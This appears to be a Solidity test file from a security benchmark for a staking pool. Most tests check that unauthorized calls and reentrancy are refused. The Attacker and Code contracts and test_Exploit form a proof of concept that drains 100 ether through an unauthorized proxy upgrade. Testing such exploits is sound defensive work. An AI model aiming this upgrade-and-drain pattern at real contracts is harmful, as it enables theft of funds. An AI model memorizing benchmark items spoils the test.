// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";
import {ERC1967Proxy} from "@openzeppelin/contracts@5.4.0/proxy/ERC1967/ERC1967Proxy.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts@5.4.0/utils/ReentrancyGuard.sol";
import {Governed} from "../../src/Governed.sol";
import {IWithdrawalQueue} from "../../src/interfaces/IWithdrawalQueue.sol";
import {ReportGuard} from "../../src/oracle/ReportGuard.sol";
import {SweepVault} from "../../src/vaults/SweepVault.sol";

contract Code {
    bytes32 public constant proxiableUUID = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    function take(address payable to) external {
        to.transfer(100 ether);
    }
}

contract Attacker {
    function run(StakePool pool) external {
        try pool.upgradeToAndCall(address(new Code()), abi.encodeCall(Code.take, (payable(address(this))))) {} catch {}
    }

    receive() external payable {}
}

/// A token that moves or does not, with its queue and its registry.
contract Mute {
    bool private immutable _moves;

    constructor(bool moves) {
        _moves = moves;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return _moves;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function accountOf(uint256) external pure returns (address) {
        return address(1);
    }

    function request(uint256, address) external pure returns (uint256) {
        return 1;
    }
}

/// A token of which everybody has too much.
contract Plenty {
    function balanceOf(address) external pure returns (uint256) {
        return 1e40;
    }
}

/// Calls back when it is paid, and keeps the answer.
contract Echo {
    address private where;
    bytes private call;
    bytes public answer;

    constructor() payable {}

    function add(InstantExit exit) external {
        exit.addLiquidity{value: 6 ether}();
    }

    function remove(InstantExit exit, bytes calldata call_) external returns (bytes4) {
        return _run(exit, abi.encodeCall(exit.removeLiquidity, (1 ether)), call_);
    }

    function sell(InstantExit exit, StakeToken token, bytes calldata call_) external returns (bytes4) {
        token.approve(address(exit), 1 ether);
        return _run(exit, abi.encodeCall(exit.sell, (1 ether, 0)), call_);
    }

    function _run(InstantExit exit, bytes memory first, bytes calldata call_) private returns (bytes4) {
        (where, call) = (address(exit), call_);
        (bool done,) = where.call(first);
        require(done && answer.length > 0, "was not called");
        return bytes4(answer);
    }

    receive() external payable {
        (, answer) = where.call(call);
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function test_RefusesStrangersAndWrongStakes() public {
        StakePool.Parts memory parts;
        bytes4 notAllowed = StakePool.NotAllowed.selector;
        bytes4 badAmount = StakePool.BadAmount.selector;
        vm.deal(BO, 3_000 ether);
        _refused(BO, address(pool), 1 ether, abi.encodeCall(StakePool.initialize, (parts, BO)), bytes4(keccak256("InvalidInitialization()")));
        address fresh = address(new ERC1967Proxy(address(new StakePool()), ""));
        _refused(BO, fresh, 2 ether, abi.encodeCall(StakePool.initialize, (parts, BO)), badAmount);
        _refused(BO, address(pool), 1 ether, abi.encodeCall(StakePool.stake, (address(0))), notAllowed);
        _refused(BO, address(pool), 1_001 ether, abi.encodeCall(StakePool.stake, (BO)), badAmount);
        _refused(BO, address(pool), abi.encodeCall(StakePool.applyReport, (_report(3, 0, 0))), notAllowed);
        _refused(BO, address(pool), 1 ether, abi.encodeCall(StakePool.receiveFromVault, ()), notAllowed);
        vm.prank(GOVERNOR);
        pool.setParameters(1_000, 1_000 ether, true);
        _refused(BO, address(pool), 1 ether, abi.encodeCall(StakePool.stake, (BO)), notAllowed);
    }

    function test_RefusesWhatIsNotThere() public {
        bytes4 notEnough = StakePool.NotEnoughBuffered.selector;
        _refused(BO, address(pool), abi.encodeCall(StakePool.finalize, (10)), StakePool.BadAmount.selector);
        _refused(BO, address(pool), abi.encodeCall(StakePool.depositBuffered, (0)), notEnough);
        _refused(BO, address(pool), abi.encodeCall(StakePool.depositBuffered, (50)), notEnough);
        IReports.Report memory report = _report(3, 0, 0);
        report.returned = 32 ether;
        bytes[] memory names = _signed(report);
        _refused(BO, address(oracle), abi.encodeCall(ReportOracle.submit, (report, names)), StakePool.BadAmount.selector);
        _submit(_report(3, 17 ether, 0));
        _refused(BO, address(pool), 1, abi.encodeCall(StakePool.stake, (BO)), StakePool.BadAmount.selector);
    }

    function test_RefusesOtherGovernors() public {
        bytes4 notGovernor = Governed.NotGovernor.selector;
        _refused(BO, address(pool), abi.encodeCall(StakePool.setParameters, (500, 500 ether, false)), notGovernor);
        _refused(GOVERNOR, address(pool), abi.encodeCall(StakePool.setParameters, (2_001, 500 ether, false)), StakePool.BadParameter.selector);
        _refused(GOVERNOR, address(pool), abi.encodeCall(StakePool.setParameters, (500, 31 ether, false)), StakePool.BadParameter.selector);
        _refused(BO, address(pool), abi.encodeCall(Governed.offerGovernance, (BO)), notGovernor);
        _refused(BO, address(pool), abi.encodeCall(Governed.acceptGovernance, ()), notGovernor);
    }

    function test_RefusesTokensOfOthers() public {
        bytes4 notAllowed = StakeToken.NotAllowed.selector;
        StakeToken fresh = new StakeToken();
        _refused(BO, address(fresh), abi.encodeCall(StakeToken.connect, (BO)), notAllowed);
        _refused(address(this), address(token), abi.encodeCall(StakeToken.connect, (BO)), notAllowed);
        _refused(BO, address(token), abi.encodeCall(StakeToken.mint, (BO, 1 ether)), notAllowed);
        _refused(BO, address(token), abi.encodeCall(StakeToken.burn, (CEE, 1 ether)), notAllowed);
        SweepVault vault = new SweepVault("fresh");
        _refused(BO, address(vault), abi.encodeCall(SweepVault.connect, (pool)), SweepVault.NotAllowed.selector);
        _refused(address(this), address(coverFund), abi.encodeCall(SweepVault.connect, (pool)), SweepVault.NotAllowed.selector);
        _refused(BO, address(coverFund), abi.encodeCall(SweepVault.sweep, (1)), SweepVault.NotAllowed.selector);
    }

    function test_RefusesReports() public {
        IReports.Report memory report = _report(3, 0, 0);
        bytes[] memory names = _signed(_report(4, 0, 0));
        _refused(BO, address(oracle), abi.encodeCall(oracle.submit, (_report(4, 0, 0), names)), "ReportOracle: frame is not over");
        names = _signed(report);
        assembly {
            mstore(names, 2)
        }
        _refused(BO, address(oracle), abi.encodeCall(oracle.submit, (report, names)), "ReportOracle: too few signatures");
        names = _signed(report);
        address member = vm.addr(memberKeys[2]);
        vm.prank(GOVERNOR);
        oracle.setMember(member, false, 3);
        _refused(BO, address(oracle), abi.encodeCall(oracle.submit, (report, names)), "ReportOracle: signer is not a member");
        ReportOracle fresh = new ReportOracle(address(this));
        fresh.connect(pool, GOVERNOR);
        vm.warp(block.timestamp + 4 days);
        _refused(BO, address(fresh), abi.encodeCall(oracle.submit, (report, new bytes[](0))), "ReportOracle: too few signatures");
    }

    function test_RefusesTooMuch() public {
        bytes[] memory names = _signed(_report(3, 30 ether, 0));
        _refused(BO, address(oracle), abi.encodeCall(oracle.submit, (_report(3, 30 ether, 0), names)), "ReportGuard: too many rewards");
        names = _signed(_report(3, 0, 60 ether));
        _refused(BO, address(oracle), abi.encodeCall(oracle.submit, (_report(3, 0, 60 ether), names)), "ReportGuard: too many losses");
        _refused(BO, address(guard), abi.encodeCall(guard.setBounds, (1, 1)), "ReportGuard: caller is not the governor");
        _refused(GOVERNOR, address(guard), abi.encodeCall(guard.setBounds, (10_001, 1)), "ReportGuard: bound too large");
        _refused(GOVERNOR, address(guard), abi.encodeCall(guard.setBounds, (1, 10_001)), "ReportGuard: bound too large");
        try new ReportGuard(GOVERNOR, 10_001, 1) {
            revert("growth without bound");
        } catch {}
        try new ReportGuard(GOVERNOR, 1, 10_001) {
            revert("loss without bound");
        } catch {}
    }

    function test_RefusesMembers() public {
        address member = vm.addr(memberKeys[0]);
        string memory invalid = "ReportOracle: invalid quorum";
        string memory nothing = "ReportOracle: nothing to change";
        string memory stranger = "ReportOracle: caller is not the governor";
        _refused(BO, address(oracle), abi.encodeCall(oracle.setMember, (BO, true, 3)), stranger);
        _refused(BO, address(oracle), abi.encodeCall(oracle.connect, (pool, BO)), stranger);
        _refused(GOVERNOR, address(oracle), abi.encodeCall(oracle.connect, (pool, BO)), "ReportOracle: already connected");
        _refused(GOVERNOR, address(oracle), abi.encodeCall(oracle.setMember, (member, true, 3)), nothing);
        _refused(GOVERNOR, address(oracle), abi.encodeCall(oracle.setMember, (address(0), true, 3)), nothing);
        _refused(GOVERNOR, address(oracle), abi.encodeCall(oracle.setMember, (BO, true, 2)), invalid);
        _refused(GOVERNOR, address(oracle), abi.encodeCall(oracle.setMember, (BO, true, 6)), invalid);
        vm.startPrank(GOVERNOR);
        for (uint160 i = 5; i <= 16; i++) {
            oracle.setMember(address(i), true, i);
        }
        vm.stopPrank();
        _refused(GOVERNOR, address(oracle), abi.encodeCall(oracle.setMember, (BO, true, 16)), "ReportOracle: too many members");
    }

    function test_RefusesClaims() public {
        vm.startPrank(CEE);
        uint256 id = queue.request(5 ether, CEE);
        vm.stopPrank();
        bytes4 badHint = IWithdrawalQueue.BadHint.selector;
        _refused(BO, address(queue), abi.encodeCall(queue.claim, (9, 0, BO)), IWithdrawalQueue.NoRequest.selector);
        _refused(CEE, address(queue), abi.encodeCall(queue.claim, (1, 0, CEE)), IWithdrawalQueue.NotAllowed.selector);
        _refused(CEE, address(queue), abi.encodeCall(queue.claim, (id, 0, CEE)), IWithdrawalQueue.NotFinalized.selector);
        _refused(BO, address(queue), abi.encodeCall(queue.claim, (1, 5, BO)), badHint);
        _refused(BO, address(queue), abi.encodeCall(queue.claim, (1, 0, address(token))), IWithdrawalQueue.NotPaid.selector);
        _refused(BO, address(queue), abi.encodeCall(queue.findHint, (0)), IWithdrawalQueue.NotFinalized.selector);
        _refused(BO, address(queue), abi.encodeCall(queue.findHint, (id)), IWithdrawalQueue.NotFinalized.selector);
        vm.warp(block.timestamp + 1 days);
        _submit(_report(3, 0, 0));
        pool.finalize(1);
        _refused(BO, address(queue), abi.encodeCall(queue.claim, (1, 1, BO)), badHint);
        vm.startPrank(BO);
        require(queue.claim(1, 0, BO) > 20 ether, "with the checkpoint of the request");
        vm.stopPrank();
    }

    function test_RefusesRequestsOfADay() public {
        bytes memory call = abi.encodeCall(StakePool.finalize, (10));
        bytes4 badAmount = StakePool.BadAmount.selector;
        vm.startPrank(CEE);
        queue.request(5 ether, CEE);
        vm.stopPrank();
        uint256 time = block.timestamp;
        _submit(_report(3, 13 ether, 0));
        _refused(BO, address(pool), call, badAmount);
        vm.startPrank(BO);
        queue.request(5 ether, BO);
        vm.stopPrank();
        vm.warp(time + 1 days - 1);
        IReports.Report memory report = _report(4, 0, 0);
        bytes[] memory names = _signed(report);
        _refused(BO, address(oracle), abi.encodeCall(oracle.submit, (report, names)), "ReportOracle: frame is not over");
        vm.warp(time + 1 days);
        _refused(BO, address(pool), call, badAmount);
        vm.startPrank(ana);
        queue.request(5 ether, ana);
        vm.stopPrank();
        _submit(report);
        require(pool.finalize(10) == 3, "the others are payable after a day");
    }

    function test_RefusesOtherFinalizers() public {
        vm.startPrank(CEE);
        queue.request(5 ether, CEE);
        vm.stopPrank();
        _refused(BO, address(queue), abi.encodeCall(queue.finalize, (2, 1e27)), IWithdrawalQueue.NotAllowed.selector);
        _refused(address(pool), address(queue), abi.encodeCall(queue.finalize, (1, 1e27)), IWithdrawalQueue.NoRequest.selector);
        _refused(address(pool), address(queue), abi.encodeCall(queue.finalize, (3, 1e27)), IWithdrawalQueue.NoRequest.selector);
    }

    function test_RefusesRequests() public {
        bytes4 badAmount = IWithdrawalQueue.BadAmount.selector;
        _refused(CEE, address(queue), abi.encodeCall(queue.request, (0.001 ether, CEE)), badAmount);
        _refused(CEE, address(queue), abi.encodeCall(queue.request, (1_001 ether, CEE)), badAmount);
        _refused(CEE, address(queue), abi.encodeCall(queue.request, (1 ether, address(0))), IWithdrawalQueue.NotAllowed.selector);
    }

    function test_RefusesTransfers() public {
        bytes4 notAllowed = IWithdrawalQueue.NotAllowed.selector;
        bytes4 noRequest = IWithdrawalQueue.NoRequest.selector;
        vm.startPrank(CEE);
        uint256 id = queue.request(5 ether, CEE);
        queue.transferRequest(CEE, DEE, id);
        vm.stopPrank();
        _refused(CEE, address(queue), abi.encodeCall(queue.approve, (CEE, id)), notAllowed);
        _refused(CEE, address(queue), abi.encodeCall(queue.transferRequest, (CEE, CEE, id)), noRequest);
        _refused(CEE, address(queue), abi.encodeCall(queue.transferRequest, (address(0), CEE, 9)), noRequest);
        _refused(CEE, address(queue), abi.encodeCall(queue.transferRequest, (DEE, CEE, id)), notAllowed);
        _refused(DEE, address(queue), abi.encodeCall(queue.transferRequest, (DEE, address(0), id)), notAllowed);
    }

    function test_RefusesKeys() public {
        (bytes[] memory keys, bytes[] memory signatures) = _keys(31, 51);
        bytes[] memory none = new bytes[](0);
        vm.deal(ONA, 300 ether);
        _added(204 ether, keys, signatures, "OperatorRegistry: invalid number of keys");
        _added(4 ether, none, none, "OperatorRegistry: invalid number of keys");
        (keys, signatures) = _keys(31, 1);
        _added(4 ether, keys, none, "OperatorRegistry: signatures missing");
        vm.prank(GUARDIAN);
        bonds.fine(0, 1 ether, "was late");
        _added(0, keys, signatures, "OperatorRegistry: bond too small");
        keys[0] = abi.encodePacked(bytes32(uint256(31)), bytes15(0));
        _added(4 ether, keys, signatures, "OperatorRegistry: invalid key");
        (keys, signatures) = _keys(1, 1);
        _added(4 ether, keys, signatures, "OperatorRegistry: key is known");
    }

    function _added(uint256 bond, bytes[] memory keys, bytes[] memory signatures, string memory reason) private {
        vm.prank(ONA);
        try registry.addKeys{value: bond}(0, keys, signatures) {
            revert("not refused");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256(bytes(reason)), reason);
        }
    }

    function test_RefusesOtherOperators() public {
        (bytes[] memory keys, bytes[] memory signatures) = _keys(31, 1);
        vm.prank(ONA);
        registry.addKeys{value: 4 ether}(0, keys, signatures);
        string memory stranger = "OperatorRegistry: caller is not the operator";
        string memory used = "OperatorRegistry: keys are used";
        (keys, signatures) = _keys(32, 1);
        vm.deal(address(bonds), 100 ether);
        _refused(OTTO, address(registry), abi.encodeCall(registry.addKeys, (0, keys, signatures)), stranger);
        _refused(OTTO, address(registry), abi.encodeCall(registry.removeKeys, (0, 1)), stranger);
        _refused(ONA, address(registry), abi.encodeCall(registry.removeKeys, (0, 0)), used);
        _refused(ONA, address(registry), abi.encodeCall(registry.removeKeys, (0, 2)), used);
        _refused(ONA, address(registry), abi.encodeCall(registry.join, ("again")), "OperatorRegistry: already an operator");
        _refused(BO, address(registry), abi.encodeCall(registry.accountOf, (99)), "OperatorRegistry: no such operator");
        stranger = "OperatorRegistry: caller is not the guardian";
        vm.prank(ONA);
        registry.setStopped(0, true);
        _refused(ONA, address(registry), abi.encodeCall(registry.setStopped, (0, false)), stranger);
        _refused(BO, address(registry), abi.encodeCall(registry.setStopped, (1, true)), stranger);
        for (uint160 i = 1; i <= 98; i++) {
            vm.prank(address(0x5000 + i));
            registry.join("o");
        }
        _refused(BO, address(registry), abi.encodeCall(registry.join, ("one too many")), "OperatorRegistry: too many operators");
    }

    function test_RefusesOtherPools() public {
        uint256[] memory one = new uint256[](1);
        string memory stranger = "OperatorRegistry: caller is not the pool";
        _refused(BO, address(registry), abi.encodeCall(registry.takeKeys, (0)), stranger);
        _refused(BO, address(registry), abi.encodeCall(registry.recordExits, (one, one)), stranger);
        _refused(address(pool), address(registry), abi.encodeCall(registry.recordExits, (one, new uint256[](0))), "OperatorRegistry: totals missing");
        uint256[] memory totals = new uint256[](1);
        totals[0] = 3;
        _refused(address(pool), address(registry), abi.encodeCall(registry.recordExits, (one, totals)), "OperatorRegistry: invalid total");
        totals[0] = 1;
        vm.prank(address(pool));
        registry.recordExits(one, totals);
        _refused(address(pool), address(registry), abi.encodeCall(registry.recordExits, (one, one)), "OperatorRegistry: invalid total");
        _refused(BO, address(pool), abi.encodeCall(pool.depositBuffered, (1)), "OperatorRegistry: no keys");
        OperatorRegistry fresh = new OperatorRegistry(bonds);
        _refused(BO, address(fresh), abi.encodeCall(registry.connect, (BO, splitter, BO)), "OperatorRegistry: already connected");
        _refused(address(this), address(registry), abi.encodeCall(registry.connect, (BO, splitter, BO)), "OperatorRegistry: already connected");
    }

    function test_RefusesBonds() public {
        vm.deal(BO, 10 ether);
        vm.prank(BO);
        try bonds.post{value: 1 ether}(2) {
            revert("no such operator has a bond");
        } catch {}
        _refused(BO, address(bonds), abi.encodeCall(bonds.post, (0)), "BondVault: no bond");
        string memory needed = "BondVault: bond is needed";
        _refused(BO, address(bonds), abi.encodeCall(bonds.release, (0, 1, payable(BO))), "BondVault: caller is not the operator");
        _refused(ONA, address(bonds), abi.encodeCall(bonds.release, (0, 1, payable(ONA))), needed);
        _refused(ONA, address(bonds), abi.encodeCall(bonds.release, (0, 0, payable(ONA))), needed);
        vm.prank(ONA);
        bonds.post{value: 1 ether}(0);
        _refused(ONA, address(bonds), abi.encodeCall(bonds.release, (0, 1 ether, payable(address(token)))), "BondVault: not paid");
        vm.prank(GUARDIAN);
        bonds.fine(0, 2 ether, "was offline");
        _refused(ONA, address(bonds), abi.encodeCall(bonds.release, (0, 1 ether, payable(ONA))), needed);
    }

    function test_RefusesFines() public {
        string memory invalid = "BondVault: invalid amount";
        _refused(BO, address(bonds), abi.encodeCall(bonds.fine, (0, 1 ether, "")), "BondVault: caller is not the guardian");
        _refused(GUARDIAN, address(bonds), abi.encodeCall(bonds.fine, (0, 0, "")), invalid);
        _refused(GUARDIAN, address(bonds), abi.encodeCall(bonds.fine, (0, 9 ether, "")), invalid);
        BondVault fresh = new BondVault();
        _refused(BO, address(fresh), abi.encodeCall(bonds.connect, (registry, BO, BO)), "BondVault: already connected");
        _refused(address(this), address(bonds), abi.encodeCall(bonds.connect, (registry, BO, BO)), "BondVault: already connected");
        fresh.connect(registry, GUARDIAN, address(token));
        fresh.post{value: 1 ether}(0);
        _refused(GUARDIAN, address(fresh), abi.encodeCall(bonds.fine, (0, 1 ether, "")), "BondVault: not paid");
    }

    function test_RefusesFees() public {
        _refused(BO, address(splitter), abi.encodeCall(splitter.notifyFees, (1 ether)), "FeeSplitter: caller is not the pool");
        _refused(BO, address(splitter), abi.encodeCall(splitter.setWeight, (0, 9)), "FeeSplitter: caller is not the registry");
        splitter.payOperator(0);
        splitter.payTreasury();
        _refused(BO, address(splitter), abi.encodeCall(splitter.payOperator, (0)), "FeeSplitter: no fees");
        _refused(BO, address(splitter), abi.encodeCall(splitter.payTreasury, ()), "FeeSplitter: no fees");
        address mute = address(new Mute(false));
        FeeSplitter fresh = new FeeSplitter(StakeToken(mute), OperatorRegistry(mute), address(this), TREASURY, 5_000);
        vm.prank(mute);
        fresh.setWeight(0, 1);
        fresh.notifyFees(1 ether);
        _refused(BO, address(fresh), abi.encodeCall(splitter.payOperator, (0)), "FeeSplitter: not paid");
        _refused(BO, address(fresh), abi.encodeCall(splitter.payTreasury, ()), "FeeSplitter: not paid");
        try new FeeSplitter(token, registry, address(pool), address(0), 5_000) {
            revert("no treasury");
        } catch {}
        try new FeeSplitter(token, registry, address(pool), TREASURY, 10_001) {
            revert("more than all");
        } catch {}
    }

    function test_RefusesLiquidity() public {
        bytes4 nothing = InstantExit.Nothing.selector;
        vm.deal(DEE, 10 ether);
        InstantExit fresh = new InstantExit(token, pool, queue);
        vm.prank(DEE);
        fresh.addLiquidity{value: 0.002 ether}();
        _refused(DEE, address(fresh), abi.encodeCall(exit.removeLiquidity, (0.001 ether + 1)), nothing);
        vm.startPrank(DEE);
        fresh.removeLiquidity(0.001 ether);
        require(fresh.removeLiquidity(0.001 ether) == 0.001 ether && fresh.totalUnits() == 0, "all units");
        vm.stopPrank();
        fresh = new InstantExit(StakeToken(address(new Plenty())), pool, queue);
        fresh.addLiquidity{value: 0.001 ether}();
        _refused(DEE, address(fresh), 0.001 ether, abi.encodeCall(exit.addLiquidity, ()), nothing);
        _refused(DEE, address(exit), 0.0001 ether, abi.encodeCall(exit.addLiquidity, ()), nothing);
        _refused(DEE, address(exit), 1 ether, "", nothing);
        _refused(DEE, address(exit), abi.encodeCall(exit.removeLiquidity, (0)), nothing);
        _refused(DEE, address(exit), abi.encodeCall(exit.removeLiquidity, (200 ether)), InstantExit.NotEnoughCash.selector);
    }

    function test_RefusesNoGifts() public {
        vm.deal(BO, 2_000 ether);
        vm.startPrank(BO);
        pool.stake{value: 1_000 ether}(address(exit));
        pool.stake{value: 1_000 ether}(address(exit));
        require(exit.enqueue() == 2 && exit.waiting() == 1_000 ether, "as much as a request takes");
        uint256 id = queue.request(5 ether, BO);
        queue.transferRequest(BO, address(exit), id);
        vm.stopPrank();
        exit.enqueue();
        uint256 cash = exit.cash();
        vm.warp(block.timestamp + 1 days);
        _submit(_report(3, 0, 0));
        pool.finalize(10);
        require(queue.lastFinalized() == 4, "all are payable");
        exit.collect(3, queue.findHint(3));
        require(exit.waiting() == 2_000 ether, "a gift never waited");
        exit.collect(4, queue.findHint(4));
        exit.collect(2, queue.findHint(2));
        require(exit.waiting() == 0 && exit.cash() > cash + 1_000 ether, "collected");
    }

    function test_RefusesManyTips() public {
        uint256 pooled = pool.totalPooled();
        payable(address(executionVault)).transfer(100 ether);
        _submit(_report(3, 1 ether, 0));
        require(pool.totalPooled() > pooled + 1 ether && pool.totalPooled() <= pooled + pooled / 20, "within the bounds");
        vm.warp(block.timestamp + 1 days);
        pooled = pool.totalPooled();
        _submit(_report(4, 0, 0));
        require(pool.totalPooled() > pooled, "the rest comes later");
    }

    function test_RefusesSales() public {
        InstantExit fresh = new InstantExit(token, pool, queue);
        fresh.addLiquidity{value: 1 ether}();
        token.transfer(address(fresh), 30 ether);
        vm.warp(block.timestamp + 1 days);
        vm.startPrank(CEE);
        token.approve(address(fresh), type(uint256).max);
        vm.stopPrank();
        _refused(CEE, address(fresh), abi.encodeCall(exit.sell, (2 ether, 0)), InstantExit.NotEnoughCash.selector);
        _refused(CEE, address(exit), abi.encodeCall(exit.sell, (0, 0)), InstantExit.Nothing.selector);
        _refused(CEE, address(exit), abi.encodeCall(exit.sell, (1 ether, 1 ether)), InstantExit.PriceTooLow.selector);
        _refused(CEE, address(exit), abi.encodeCall(exit.sell, (30 ether, 0)), InstantExit.LimitReached.selector);
        vm.startPrank(BO);
        queue.setOperator(address(exit), true);
        vm.stopPrank();
        _refused(BO, address(exit), abi.encodeCall(exit.sellRequest, (1, 0)), InstantExit.Nothing.selector);
        fresh = new InstantExit(StakeToken(address(new Mute(false))), pool, queue);
        fresh.addLiquidity{value: 20 ether}();
        _refused(CEE, address(fresh), abi.encodeCall(exit.sell, (1 ether, 0)), InstantExit.NotPaid.selector);
        token.transfer(address(lens), 1 ether);
        vm.startPrank(address(lens));
        token.approve(address(exit), 1 ether);
        vm.stopPrank();
        _refused(address(lens), address(exit), abi.encodeCall(exit.sell, (1 ether, 0)), InstantExit.NotPaid.selector);
    }

    function test_RefusesOrders() public {
        vm.prank(ana);
        token.approve(address(signedExit), 20 ether);
        SignedExit.Order memory order = SignedExit.Order(ana, 2 ether, 0.2 ether, 0, block.timestamp);
        _ordered(signedExit, order, order.deadline - 1, SignedExit.Expired.selector);
        _ordered(signedExit, order, order.deadline, 0);
        order.number = 1;
        order.tip++;
        _ordered(signedExit, order, order.deadline, SignedExit.BadTip.selector);
        order.tip--;
        order.number = 2;
        _ordered(signedExit, order, order.deadline, SignedExit.WrongNumber.selector);
        (order.number, order.owner) = (0, BO);
        _ordered(signedExit, order, order.deadline, SignedExit.WrongSigner.selector);
        order.owner = ana;
        Mute mute = new Mute(false);
        _ordered(new SignedExit(StakeToken(address(mute)), queue), order, order.deadline, SignedExit.NotMoved.selector);
        mute = new Mute(true);
        SignedExit fresh = new SignedExit(StakeToken(address(mute)), WithdrawalQueue(address(mute)));
        _ordered(fresh, order, order.deadline, SignedExit.NotMoved.selector);
        order.tip = 0;
        _ordered(fresh, order, order.deadline, 0);
    }

    /// Submits an order with a deadline, and requires its refusal, or its success where there is no reason against it.
    function _ordered(SignedExit to, SignedExit.Order memory order, uint256 deadline, bytes4 reason) private {
        order.deadline = deadline;
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, to.digestOf(order));
        bytes memory signature = abi.encodePacked(r, s, v);
        if (reason == 0) to.execute(order, signature);
        else _refused(OTTO, address(to), abi.encodeCall(to.execute, (order, signature)), reason);
        order.deadline = block.timestamp;
    }

    function test_RefusesCallsWithinCalls() public {
        bytes4 locked = ReentrancyGuard.ReentrancyGuardReentrantCall.selector;
        Echo echo = new Echo{value: 6 ether}();
        echo.add(exit);
        token.transfer(address(echo), 1 ether);
        require(echo.sell(exit, token, abi.encodeCall(exit.removeLiquidity, (0))) == locked, "removeLiquidity");
        require(echo.remove(exit, abi.encodeCall(exit.addLiquidity, ())) == locked, "addLiquidity");
        require(echo.remove(exit, abi.encodeCall(exit.sell, (0, 0))) == locked, "sell");
        require(echo.remove(exit, abi.encodeCall(exit.sellRequest, (0, 0))) == locked, "sellRequest");
        require(echo.remove(exit, abi.encodeCall(exit.collect, (0, 0))) == locked, "collect");
        require(echo.remove(exit, abi.encodeCall(exit.enqueue, ())) == locked, "enqueue");
    }

    /// Requires that a call is refused for this reason, and for no other one.
    function _refused(address who, address where, bytes memory call, string memory reason) private {
        bytes memory why = _answer(who, where, 0, call);
        require(keccak256(why) == keccak256(abi.encodeWithSignature("Error(string)", reason)), reason);
    }

    function _refused(address who, address where, bytes memory call, bytes4 reason) private {
        _refused(who, where, 0, call, reason);
    }

    function _refused(address who, address where, uint256 value, bytes memory call, bytes4 reason) private {
        require(bytes4(_answer(who, where, value, call)) == reason, "not refused, or for another reason");
    }

    function _answer(address who, address where, uint256 value, bytes memory call) private returns (bytes memory why) {
        bool done;
        vm.prank(who);
        (done, why) = where.call{value: value}(call);
        require(!done, "not refused");
    }

    function exploit() public {
        other.run(pool);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 100 ether, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
